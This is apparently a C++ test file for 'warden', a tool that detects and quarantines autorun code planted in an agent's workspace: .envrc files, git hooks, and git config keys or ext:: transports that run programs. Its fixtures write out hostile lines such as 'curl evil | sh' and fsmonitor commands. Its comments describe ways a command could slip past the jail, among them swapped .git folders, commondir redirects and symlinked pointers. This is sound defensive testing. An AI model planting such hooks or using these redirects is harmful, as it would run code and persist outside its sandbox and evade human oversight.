TEST_F(PlantedCode, QuarantineTriesEveryPathBeforeFailing) {
  // A hook whose name leaves no room for the suffix cannot be renamed (even
  // by root): the error names it, after the other path was moved.
  const std::string hook = "r/hooks/" + std::string(245, 'h');
  write_file(ws_ + "/" + hook, "evil\n");
  write_file(ws_ + "/b/.envrc", "y\n");
  try {
    quarantine(ws_, {hook, "b/.envrc", "no/such/.envrc"});
    ADD_FAILURE() << "no error";
  } catch (const warden::Error& e) {
    EXPECT_NE(std::string(e.what()).find(hook + " (File name too long)"), std::string::npos) << e.what();
  }
  EXPECT_TRUE(fs::exists(ws_ + "/b/.envrc.warden-quarantine"));
  EXPECT_FALSE(fs::exists(ws_ + "/b/.envrc"));
}

TEST_F(PlantedCode, AReplacedRepositoryIsFlagged) {
  // The jail masks an existing repository's config and hooks, so a command
  // swaps the whole folder instead; or points it elsewhere with commondir.
  fs::rename(ws_ + "/old/.git", ws_ + "/old/.git-orig");
  write_file(ws_ + "/old/.git/config", "[core]\n\tfsmonitor = evil\n");
  EXPECT_EQ(planted(), std::vector<std::string>{"old/.git"});
}

TEST_F(PlantedCode, ContentChangedWithTheSameSizeAndTimeIsFlagged) {
  // touch can put mtime back, but the change time moves with any write.
  write_file(ws_ + "/.envrc", "echo hi\n");
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, true);
  struct stat st;
  ASSERT_EQ(::stat((ws_ + "/.envrc").c_str(), &st), 0);
  ::usleep(20000);
  write_file(ws_ + "/.envrc", "curl xy\n");  // the same 8 bytes long
  const timespec times[2] = {st.st_atim, st.st_mtim};
  ASSERT_EQ(::utimensat(AT_FDCWD, (ws_ + "/.envrc").c_str(), times, 0), 0);
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, true)), std::vector<std::string>{".envrc"});
}

TEST_F(PlantedCode, ALinkInPlaceOfAnAutorunFileIsFlagged) {
  fs::create_symlink("../elsewhere/.envrc", ws_ + "/.envrc");
  fs::create_directories(ws_ + "/sub");
  fs::create_directory_symlink("/tmp", ws_ + "/sub/.git");
  EXPECT_EQ(planted(), (std::vector<std::string>{".envrc", "sub/.git"}));
}

// What git writes (a clone's config, remotes, a template's sample hooks,
// a bare repository) is left to a command the human allowed to write git
// metadata.
TEST_F(PlantedCode, WhatGitWritesIsLeftToACommandAllowedToWriteIt) {
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
  write_file(ws_ + "/sub/.git/config",
             "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.org/x.git\n[user]\n\tname = Me\n");
  write_file(ws_ + "/sub/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
  write_file(ws_ + "/old/.git/config", "[core]\n\tlogallrefupdates = true\n");
  fs::create_directories(ws_ + "/bare/objects");
  fs::create_directories(ws_ + "/bare/refs/heads");
  write_file(ws_ + "/bare/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/bare/config", "[core]\n\tbare = true\n");
  write_file(ws_ + "/sub/.envrc", "x\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{"sub/.envrc"});
}

// What git's own commands never write is still found there: a hook that is
// no template's sample (a nested clone's, a submodule's under .git/modules)
// and a config key that runs a program, in a file the config includes
// too. Only the file goes, not the repository.
TEST_F(PlantedCode, AGitWriteStillCannotPlantHooksOrCommands) {
  write_file(ws_ + "/old/.git/config", "[include]\n\tpath = shared.cfg\n");
  write_file(ws_ + "/old/.git/shared.cfg", "[user]\n\tname = Me\n");
  write_file(ws_ + "/old/.git/modules/lib/config", "[remote \"origin\"]\n\turl = https://example.org/lib.git\n");
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
  write_file(ws_ + "/old/.git/shared.cfg", "[user]\n\tname = Me\n[core]\n\tfsmonitor = ./evil\n");
  write_file(ws_ + "/old/.git/hooks/pre-commit", "curl evil | sh\n");
  write_file(ws_ + "/old/.git/modules/lib/hooks/post-checkout", "curl evil | sh\n");
  write_file(ws_ + "/old/.git/modules/lib/config", "[remote \"origin\"]\n\turl = https://example.org/lib.git\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
            (std::vector<std::string>{"old/.git/config", "old/.git/hooks/pre-commit",
                                      "old/.git/modules/lib/hooks/post-checkout"}));
  // A remote sent elsewhere (the next push goes there), an alias that runs
  // a program, a new repository whose config runs one.
  write_file(ws_ + "/old/.git/modules/lib/config", "[remote \"origin\"]\n\turl = https://evil.test/lib.git\n");
  write_file(ws_ + "/old/.git/modules/new/config", "[alias]\n\tst = !curl evil | sh\n");
  make_repository_shape(ws_ + "/bare");  // its config sets core.fsmonitor
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
            (std::vector<std::string>{"bare/config", "old/.git/config", "old/.git/hooks/pre-commit",
                                      "old/.git/modules/lib/config", "old/.git/modules/new/config",
                                      "old/.git/modules/lib/hooks/post-checkout"}));
}

// What no approved git command writes, and what points git at other config,
// stays watched: a .git's commondir and config.worktree (the file alone
// goes, not the repository), but not a new worktree's under .git/worktrees.
TEST_F(PlantedCode, AGitWriteStillCannotPointTheRepositoryAtOtherConfig) {
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
  write_file(ws_ + "/old/.git/commondir", "../../evil\n");
  write_file(ws_ + "/old/.git/config.worktree", "[core]\n\tfsmonitor = evil\n");
  write_file(ws_ + "/old/.git/worktrees/tree/commondir", "../..\n");
  write_file(ws_ + "/old/.git/objects/ab/cdef", "a commit\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
            (std::vector<std::string>{"old/.git/commondir", "old/.git/config.worktree"}));
}

TEST_F(PlantedCode, QuarantineRenamesAndKeepsEverything) {
  write_file(ws_ + "/sub/.git/config", "[core]\n\tfsmonitor = evil\n");
  write_file(ws_ + "/.envrc.warden-quarantine", "an earlier one\n");
  write_file(ws_ + "/.envrc", "curl evil | sh\n");
  make_repository_shape(ws_);
  const auto moved = quarantine(ws_, planted());
  EXPECT_EQ(moved, (std::vector<std::string>{".envrc -> .envrc.warden-quarantine.1", "HEAD -> HEAD.warden-quarantine",
                                             "config -> config.warden-quarantine",
                                             "sub/.git -> sub/.git.warden-quarantine"}));
  EXPECT_FALSE(fs::exists(ws_ + "/sub/.git"));
  EXPECT_EQ(read_file(ws_ + "/sub/.git.warden-quarantine/config"), "[core]\n\tfsmonitor = evil\n");
  EXPECT_EQ(read_file(ws_ + "/.envrc.warden-quarantine"), "an earlier one\n");
  EXPECT_EQ(read_file(ws_ + "/.envrc.warden-quarantine.1"), "curl evil | sh\n");
  // What is left is no longer a repository, and nothing new is planted.
  EXPECT_FALSE(fs::exists(ws_ + "/HEAD"));
  EXPECT_EQ(planted_since(snapshot_autorun_entries(ws_, true), snapshot_autorun_entries(ws_, true)),
            std::vector<std::string>{});
}

}  // namespace

// FIFOs where the check reads (a .git file, an .envrc, an included
// config) are not read: the check ends.
TEST_F(PlantedCode, FifosWhereTheCheckReadsDoNotStopIt) {
  write_file(ws_ + "/old/.git/config", "[include]\n\tpath = ../shared.cfg\n");
  before_ = snapshot_autorun_entries(ws_, true);
  ASSERT_EQ(::mkfifo((ws_ + "/old/shared.cfg").c_str(), 0600), 0);
  fs::create_directories(ws_ + "/w");
  ASSERT_EQ(::mkfifo((ws_ + "/w/.git").c_str(), 0600), 0);
  ASSERT_EQ(::mkfifo((ws_ + "/.envrc").c_str(), 0600), 0);
  EXPECT_EQ(planted(), (std::vector<std::string>{".envrc", "old/shared.cfg", "w/.git"}));
}

// What a command can make the check read is bounded: an .envrc whose
// variables double on every line stops the check (which fails closed:
// the agent stops) instead of running on for good; a long line is read
// in time linear in its words.
TEST_F(PlantedCode, TextMadeToBeExpensiveStopsTheCheck) {
  std::string doubling = "A=x/0\n";
  for (int i = 0; i < 20000; ++i) doubling += "A=\"$A $A\"\n";
  write_file(ws_ + "/d/.envrc", doubling);
  try {
    snapshot_autorun_entries(ws_, true);
    ADD_FAILURE() << "the check read on";
  } catch (const warden::Error& e) {
    EXPECT_LT(std::string(e.what()).size(), 1000u) << e.what();  // the message cuts a path made that long
  }
  // The same without a word to look at: the budget for text ends it.
  doubling = "A=1\n";
  for (int i = 0; i < 20000; ++i) doubling += "A=\"$A $A\"\n";
  write_file(ws_ + "/d/.envrc", doubling);
  try {
    snapshot_autorun_entries(ws_, true);
    ADD_FAILURE() << "the check read on";
  } catch (const warden::Error& e) {
    EXPECT_NE(std::string(e.what()).find("more text than warden reads to check them"), std::string::npos) << e.what();
  }
  std::string words;
  for (int i = 0; i < 300000; ++i) words += "a/" + std::to_string(i) + " ";
  write_file(ws_ + "/d/.envrc", words + "\n");
  EXPECT_NO_THROW(snapshot_autorun_entries(ws_, true));
  // Variables a line names by the folder they stand for are read in one
  // pass (replacing each in place was quadratic: minutes for 4 MiB).
  std::string pwds, dirnames;
  for (int i = 0; i < 1000000; ++i) pwds += "$PWD";
  for (int i = 0; i < 70000; ++i) dirnames += "$(dirname $0) ";
  write_file(ws_ + "/d/.envrc", pwds + "\n");
  write_file(ws_ + "/old/.git/hooks/pre-commit", dirnames + "\n");
  try {
    snapshot_autorun_entries(ws_, true);
  } catch (const warden::Error& e) {
    ADD_FAILURE() << e.what();
  }
  // A deep chain of folders costs each entry the same as a shallow one
  // (recomputing what each entry lies in was quadratic: 37 s for this).
  std::string deep = ws_ + "/deep";
  for (int i = 0; i < 640; ++i) deep += "/hooks";
  fs::create_directories(deep);
  for (int i = 0; i < 2000; ++i) write_file(deep + "/f" + std::to_string(i), "");
  EXPECT_NO_THROW(snapshot_autorun_entries(ws_, true));
  fs::remove_all(ws_ + "/deep");
  // A config larger than the part read could hide a key past it.
  write_file(ws_ + "/old/.git/config", "#" + std::string(5 << 20, 'x') + "\n[core]\n\tfsmonitor = ./evil\n");
  EXPECT_THROW(snapshot_autorun_entries(ws_, true), warden::Error);
  EXPECT_THROW(snapshot_autorun_entries(ws_, false), warden::Error);
}

// Under write_git, where a .git file or a commondir sends git (a folder
// without HEAD, which git takes as the common part of a repository) is
// watched like a .git: its config's commands and its hooks.
TEST_F(PlantedCode, AGitWriteCannotSendGitToAFolderItPlanted) {
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
  write_file(ws_ + "/sub/.git", "gitdir: ../x\n");
  write_file(ws_ + "/x/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/x/commondir", "../y\n");
  fs::create_directories(ws_ + "/y/objects");
  fs::create_directories(ws_ + "/y/refs/heads");
  write_file(ws_ + "/y/config", "[core]\n\tfsmonitor = \"touch pwned; false\"\n");
  write_file(ws_ + "/y/hooks/pre-commit", "curl evil | sh\n");
  write_file(ws_ + "/old/.git/modules/lib/commondir", "../../../../vendor/.cache\n");
  fs::create_directories(ws_ + "/vendor/.cache/objects");
  fs::create_directories(ws_ + "/vendor/.cache/refs");
  write_file(ws_ + "/vendor/.cache/config", "[alias]\n\tst = -c core.fsmonitor=evil status\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
            (std::vector<std::string>{"y/config", "vendor/.cache/config", "y/hooks/pre-commit"}));
}

// A pointer git reads its own way: through a link (git resolves it where
// warden would not), through /proc/self/..., or with a trailing space git
// keeps. The folder is read as git reads the file, or, where that is not
// plainly in the workspace, the pointer itself counts as planted.
TEST_F(PlantedCode, AGitPointerIsReadAsGitReadsIt) {
  fs::create_directories(ws_ + "/x/y");
  fs::create_directories(ws_ + "/gd");
  fs::create_symlink("../x/y", ws_ + "/gd/lnk");
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
  write_file(ws_ + "/wt/.git", "gitdir: ../gd\n");
  write_file(ws_ + "/gd/HEAD", "ref: refs/heads/main\n");
  write_file(ws_ + "/gd/commondir", "lnk/../common\n");
  write_file(ws_ + "/x/common/config", "[core]\n\tfsmonitor = evil\n");
  write_file(ws_ + "/gd2/commondir", "/proc/self/root" + ws_ + "/store\n");
  write_file(ws_ + "/gd3/commondir", "../store \n");
  write_file(ws_ + "/store /config", "[core]\n\tfsmonitor = evil\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
            (std::vector<std::string>{"gd/commondir", "gd2/commondir", "store /config"}));
}

// Under write_git, a new repository's config that runs a program through a
// transport: an insteadOf to an ext:: URL, a remote helper named by vcs.
TEST_F(PlantedCode, AGitWriteCannotPlantATransportThatRunsAProgram) {
  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
  write_file(ws_ + "/a/.git/config",
             "[protocol \"ext\"]\n\tallow = always\n[url \"ext::sh -c touch% pwned #\"]\n\tinsteadOf = https://x/\n");
  write_file(ws_ + "/b/.git/config", "[remote \"origin\"]\n\turl = sh -c evil\n\tvcs = ext\n");
  write_file(ws_ + "/c/.git/config", "[remote \"origin\"]\n\turl = https://example.org/c.git\n");
  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
            (std::vector<std::string>{"a/.git/config", "b/.git/config"}));
}
